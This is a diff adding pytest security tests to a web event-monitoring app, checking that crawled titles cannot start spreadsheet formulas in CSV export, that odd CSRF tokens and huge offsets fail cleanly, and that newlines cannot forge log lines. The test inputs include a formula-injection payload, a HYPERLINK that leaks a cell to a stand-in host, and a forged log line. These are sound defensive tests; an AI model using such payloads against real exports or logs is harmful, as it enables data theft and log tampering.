@@ -4,19 +4,26 @@ no start on an open address without users."""
 
 from __future__ import annotations
 
+import asyncio
+import logging
 import os
 import re
 import signal
 import subprocess
 import sys
 import time
+from datetime import UTC, datetime
 from pathlib import Path
 
 import httpx
 import pytest
 import yaml
+from starlette.types import Receive, Scope, Send
 
+from monitor.eventsearch import csv_row
 from monitor.web.access import hash_password
+from monitor.web.app import HeadersAndLog
+from storage.eventpages import EventRow
 from tests.receivers import free_port
 from tests.test_crawl import source_yaml
 from tests.webworld import HOSTILE_TITLE, PASSWORDS, TOKENS, World, wait_until_up
@@ -258,3 +265,60 @@ def test_a_reload_takes_a_removed_token_and_a_changed_role_at_once(tmp_path: Pat
         daemon.send_signal(signal.SIGTERM)
         _, errors = daemon.communicate(timeout=60)
     assert "config reloaded" in errors
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://127.0.0.1/?leak="&A1,"Open")', "+1+1",
+                                   "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])  # fmt: skip
+def test_a_csv_cell_of_crawled_text_never_starts_a_formula(title: str) -> None:
+    """A crawled title that starts with "=" ran as a formula in the analyst's spreadsheet."""
+    moment = datetime(2026, 12, 7, tzinfo=UTC)
+    row = EventRow(7, title, "http://127.0.0.1/a", moment, moment, None, ("=src",), ("en",),
+                   ("-Place",), ("@Org",), ("+rule",))  # fmt: skip
+    cells = csv_row(row)
+    assert cells[1] == "'" + title
+    assert [cells[6], cells[8], cells[9], cells[10]] == ["'=src", "'-Place", "'@Org", "'+rule"]
+    assert csv_row(EventRow(7, "Summit on 3 March", "http://127.0.0.1/a", moment, moment, None,
+                            (), (), (), (), ()))[1] == "Summit on 3 March"  # fmt: skip
+
+
+def test_a_csrf_token_that_is_not_ascii_is_refused_not_a_server_error(world: World) -> None:
+    client, _ = logged_in(world, "ana")
+    answer = client.post("/logout", headers={"X-CSRF-Token": "\u00e9".encode("latin-1")})
+    assert answer.status_code == 403
+    answer = client.post("/logout", data={"csrf": "é"})
+    assert answer.status_code == 403
+
+
+def test_an_offset_of_thousands_of_digits_is_the_last_page_not_a_server_error(
+    world: World,
+) -> None:
+    for key in ("offset", "limit"):
+        answer = httpx.get(world.base + "/events", headers=VIEWER, params={key: "9" * 4301})
+        assert answer.status_code == 200, key
+
+
+def test_a_newline_in_the_path_cannot_forge_a_log_line(world: World) -> None:
+    forged = "2026-12-07 11:40:00,000 INFO monitor.web.actions: web: ana logged in"
+    httpx.get(world.base + "/nothing%0a" + forged.replace(" ", "%20"), headers=VIEWER)
+    time.sleep(0.5)  # the daemon's log is written by another process
+    lines = world.log.read_text().splitlines()
+    assert not any(line.startswith(forged) for line in lines)
+    assert any("/nothing\\n2026-12-07" in line for line in lines)
+
+
+def test_a_fault_of_ours_is_a_500_with_the_headers_and_a_log_line(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    async def broken(scope: Scope, receive: Receive, send: Send) -> None:
+        raise RuntimeError("a fault of ours")
+
+    async def ask() -> httpx.Response:
+        transport = httpx.ASGITransport(app=HeadersAndLog(broken))
+        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
+            return await client.get("/events")
+
+    with caplog.at_level(logging.INFO, logger="monitor.web.app"):
+        answer = asyncio.run(ask())
+    assert answer.status_code == 500
+    assert answer.headers["x-frame-options"] == "DENY"
+    assert "web: GET /events 500" in caplog.text and "a fault of ours" in caplog.text
